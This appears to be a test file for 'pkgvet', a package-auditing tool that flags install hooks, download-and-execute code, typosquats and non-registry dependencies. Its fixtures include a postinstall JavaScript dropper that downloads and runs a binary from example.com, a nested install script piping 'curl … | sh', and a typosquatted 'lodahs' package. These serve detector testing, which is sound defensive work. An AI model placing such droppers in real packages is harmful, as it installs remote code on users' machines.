"""pkgvet audit on real artifacts built here: npm tarball, wheel, sdist,
directory. Checks the JSON report field by field and the text report."""
import json, os, sys
sys.path.insert(0, os.path.dirname(__file__))
from pvtest import *

d = tmpdir()

# --- an npm tarball whose postinstall downloads a file and runs it
setup_js = '''const https = require("https");
const fs = require("fs");
const { execSync } = require("child_process");
const dest = "/tmp/.cache-helper";
https.get("https://example.com/payload.bin", (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on("finish", () => {
    fs.chmodSync(dest, 0o755);
    execSync(dest);
  });
});
'''
pkg_json = json.dumps({
    "name": "left-padder-helper", "version": "1.2.3",
    "scripts": {"test": "echo ok", "postinstall": "node scripts/setup.js"},
}, indent=2)
tgz = make_tgz(os.path.join(d, 'left-padder-helper-1.2.3.tgz'), {
    'package/package.json': pkg_json,
    'package/index.js': 'module.exports = (s, n) => String(s).padStart(n);\n',
    'package/scripts/setup.js': setup_js,
})
p, doc = audit_json(tgz)
check(p.returncode == 1, f'dropper tarball: exit 1 (got {p.returncode}, stderr {p.stderr[:200]!r})')
check(doc is not None and doc['schema'] == 'pkgvet.audit/1', 'dropper: JSON with schema pkgvet.audit/1')
pkg = doc['packages'][0]
check(pkg['input'] == tgz, 'input echoed')
check(pkg['ecosystem'] == 'npm' and pkg['name'] == 'left-padder-helper' and pkg['version'] == '1.2.3',
      'name, version, ecosystem from package.json')
check(pkg['format'] == 'tar.gz', f'format tar.gz (got {pkg["format"]})')
check(pkg['digest'].startswith('sha256:') and len(pkg['digest']) == 71, 'sha256 digest')
check(pkg['verdict'] == 'block' and pkg['error'] is None, 'verdict block')
hook = findings(pkg, 'install-hook')
check(any(h['file'] == 'package/package.json' and h['line'] == 6 and h['install_time']
          and 'node scripts/setup.js' in (h['detail'] or '') for h in hook),
      f'install-hook at package/package.json:6 naming the command ({hook})')
dx = findings(pkg, 'download-exec')
check(any(f['file'] == 'package/scripts/setup.js' and f['line'] in (9, 10) and f['action'] == 'block'
          and f['install_time'] for f in dx),
      f'download-exec at package/scripts/setup.js:9/10, install-time, block ({dx})')
perms = {x['name']: x for x in pkg['permissions']}
check('network' in perms and any(e['file'] == 'package/scripts/setup.js' and e['line'] == 5
                                 for e in perms['network']['evidence']),
      'network permission with evidence scripts/setup.js:5')
check('process' in perms and perms['process']['install_time'], 'process permission, install-time')
check('fs-write' in perms, 'fs-write permission')
net5 = [e for e in perms.get('network', {}).get('evidence', []) if e['line'] == 5]
check(net5 and 'https.get' in (net5[0]['excerpt'] or ''), 'evidence excerpt is the source line')
check(doc['summary']['packages'] == 1 and doc['summary']['block'] == 1 and doc['verdict'] == 'block'
      and doc['exit_status'] == 1, 'summary and top-level verdict')

# text report names the same things
p = run('audit', tgz)
out = p.stdout.decode()
check(p.returncode == 1 and 'left-padder-helper 1.2.3' in out and 'download-exec' in out
      and 'package/scripts/setup.js:' in out and 'verdict: block' in out, 'text report')
check('\x1b' not in out, 'no colour when NO_COLOR is set / not a tty')

# --- a clean npm package
clean = make_tgz(os.path.join(d, 'tiny-sum-1.0.0.tgz'), {
    'package/package.json': json.dumps({"name": "zz-tiny-sum-lib", "version": "1.0.0", "main": "index.js"}),
    'package/index.js': 'module.exports = function sum(a, b) { return a + b; };\n',
    'package/README.md': '# tiny-sum\n',
})
p, doc = audit_json(clean)
pkg = doc['packages'][0]
check(p.returncode == 0 and pkg['verdict'] == 'allow' and pkg['permissions'] == [] and pkg['findings'] == [],
      f'clean package: allow, no permissions, no findings ({pkg["findings"]})')

# --- a wheel that runs processes at import
whl = make_wheel(os.path.join(d, 'demo_tool-0.4.1-py3-none-any.whl'), 'demo_tool', '0.4.1', {
    'demo_tool/__init__.py': 'import subprocess as sp\n\ndef run(cmd):\n    return sp.check_output(cmd)\n',
})
p, doc = audit_json(whl)
pkg = doc['packages'][0]
check(pkg['ecosystem'] == 'pypi' and pkg['name'] == 'demo_tool' and pkg['version'] == '0.4.1',
      'wheel: name and version from METADATA')
check(pkg['format'] == 'zip', f'wheel format zip (got {pkg["format"]})')
perms = {x['name']: x for x in pkg['permissions']}
check('process' in perms and perms['process']['evidence'][0]['file'] == 'demo_tool/__init__.py'
      and perms['process']['evidence'][0]['line'] == 4 and not perms['process']['install_time'],
      f'wheel: process permission at demo_tool/__init__.py:4 (sp alias) ({perms.get("process")})')
check(not findings(pkg, 'install-hook'), 'wheel: no install hook')
check(p.returncode == 0 and pkg['verdict'] == 'warn', f'wheel: verdict warn, exit 0 ({pkg["verdict"]})')

# --- an sdist whose setup.py overrides install
setup_py = '''from setuptools import setup
from setuptools.command.install import install
import os

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("echo installed")

setup(name="demo-sdist", version="2.0", cmdclass={"install": PostInstall})
'''
sdist = make_tgz(os.path.join(d, 'demo-sdist-2.0.tar.gz'), {
    'demo-sdist-2.0/PKG-INFO': 'Metadata-Version: 2.1\nName: demo-sdist\nVersion: 2.0\n',
    'demo-sdist-2.0/setup.py': setup_py,
    'demo-sdist-2.0/demo_sdist/__init__.py': 'VERSION = "2.0"\n',
})
p, doc = audit_json(sdist)
pkg = doc['packages'][0]
check(pkg['name'] == 'demo-sdist' and pkg['version'] == '2.0', 'sdist: name and version from PKG-INFO')
hook = findings(pkg, 'install-hook')
check(hook and all(h['install_time'] and h['file'] == 'demo-sdist-2.0/setup.py' for h in hook),
      f'sdist: install-hook in setup.py, install-time ({hook})')
check(pkg['verdict'] == 'prompt' and p.returncode == 0, f'sdist: verdict prompt, exit 0 ({pkg["verdict"]})')
p2 = run('audit', '--fail-on', 'prompt', sdist)
check(p2.returncode == 1, '--fail-on prompt makes a prompt verdict exit 1')

# --- an unpacked directory, and several inputs in one run
dd = os.path.join(d, 'dirpkg')
os.makedirs(os.path.join(dd, 'lib'))
with open(os.path.join(dd, 'package.json'), 'w') as f:
    json.dump({"name": "zz-dir-pkg", "version": "0.0.1"}, f)
with open(os.path.join(dd, 'lib', 'a.js'), 'w') as f:
    f.write('const fs = require("fs");\nmodule.exports = () => fs.readFileSync("/etc/hostname", "utf8");\n')
p, doc = audit_json(dd, clean, whl)
check(p.returncode == 0 and len(doc['packages']) == 3, 'three inputs, one report')
pkg = doc['packages'][0]
check(pkg['format'] == 'directory' and pkg['digest'] is None and pkg['name'] == 'zz-dir-pkg', 'directory input')
check(any(x['name'] == 'fs-read' for x in pkg['permissions']), 'directory: fs-read permission')
check(doc['summary']['packages'] == 3 and doc['summary']['errors'] == 0, 'summary counts 3')

# --- typosquat on the package's own name
squat = make_tgz(os.path.join(d, 'lodahs-1.0.0.tgz'), {
    'package/package.json': json.dumps({"name": "lodahs", "version": "1.0.0"}),
    'package/index.js': 'module.exports = 1;\n',
})
p, doc = audit_json(squat)
ts = findings(doc['packages'][0], 'typosquat')
check(ts and 'lodash' in ts[0]['detail'] and ts[0]['action'] == 'prompt', f'typosquat lodahs → lodash ({ts})')

# --- dependencies from outside the registry; a file: dependency inside the
#     tarball is installed with its own lifecycle scripts
deps = make_tgz(os.path.join(d, 'deps-1.0.0.tgz'), {
    'package/package.json': json.dumps({"name": "zz-deps-demo", "version": "1.0.0", "dependencies": {
        "a": "~1.3.8", "b": "^2.0.0", "c": ">=1 <2", "d": "latest", "e": "npm:left-pad@1.3.0",
        "f": "file:vendor/inner", "g": "git+https://example.com/g.git", "h": "someone/somerepo#main",
        "i": "https://example.com/i-1.0.0.tgz"}}, indent=1),
    'package/index.js': 'module.exports = 1;\n',
    'package/vendor/inner/package.json': json.dumps({"name": "inner", "version": "0.0.1",
                                                     "scripts": {"install": "sh setup.sh"}}),
    'package/vendor/inner/setup.sh': 'curl -s http://example.com/x.sh | sh\n',
})
p, doc = audit_json(deps)
pkg = doc['packages'][0]
urls = sorted(f['detail'].split()[1] for f in findings(pkg, 'url-dependency'))
check(urls == ['f', 'g', 'h', 'i'], f'url-dependency for file:, git, user/repo and URL specs only ({urls})')
inner = [f for f in findings(pkg, 'install-hook') if f['file'] == 'package/vendor/inner/package.json']
check(inner and inner[0]['install_time'], 'nested file: dependency: its install script is an install hook')
check(any(f['file'] == 'package/vendor/inner/setup.sh' and f['install_time'] for f in findings(pkg, 'download-exec')),
      'nested file: dependency: its curl | sh is download-exec')
check(pkg['verdict'] == 'block', 'nested dropper blocks the package')

# --- explain
p = run('explain', 'typosquat')
check(p.returncode == 0 and b'typosquat' in p.stdout and b'prompt' in p.stdout, 'explain typosquat')
proj = os.path.join(d, 'proj-explain')
os.makedirs(os.path.join(proj, '.git'))
with open(os.path.join(proj, '.pkgvet.ini'), 'w') as f:
    f.write('[attributes]\ntyposquat = block\n')
p = run('explain', 'typosquat', cwd=proj, env={'XDG_CONFIG_HOME': os.path.join(d, 'nocfg')})
check(p.returncode == 0 and b'action here: block' in p.stdout and b'.pkgvet.ini:2' in p.stdout,
      f'explain shows the effective action and where it was set ({p.stdout!r})')
p = run('explain', 'no-such-thing')
check(p.returncode == 2 and p.stderr.count(b'\n') == 1 and b'no-such-thing' in p.stderr, 'explain unknown id: exit 2, one line')
p = run('explain')
check(p.returncode == 0 and p.stdout.count(b'\n') >= 30, 'explain lists the catalogue')

# --- usage errors
p = run('audit')
check(p.returncode == 2, 'audit with no input: exit 2')
p = run('audit', '--bogus', clean)
check(p.returncode == 2, 'unknown option: exit 2')
p = run('frobnicate')
check(p.returncode == 2, 'unknown command: exit 2')
done()
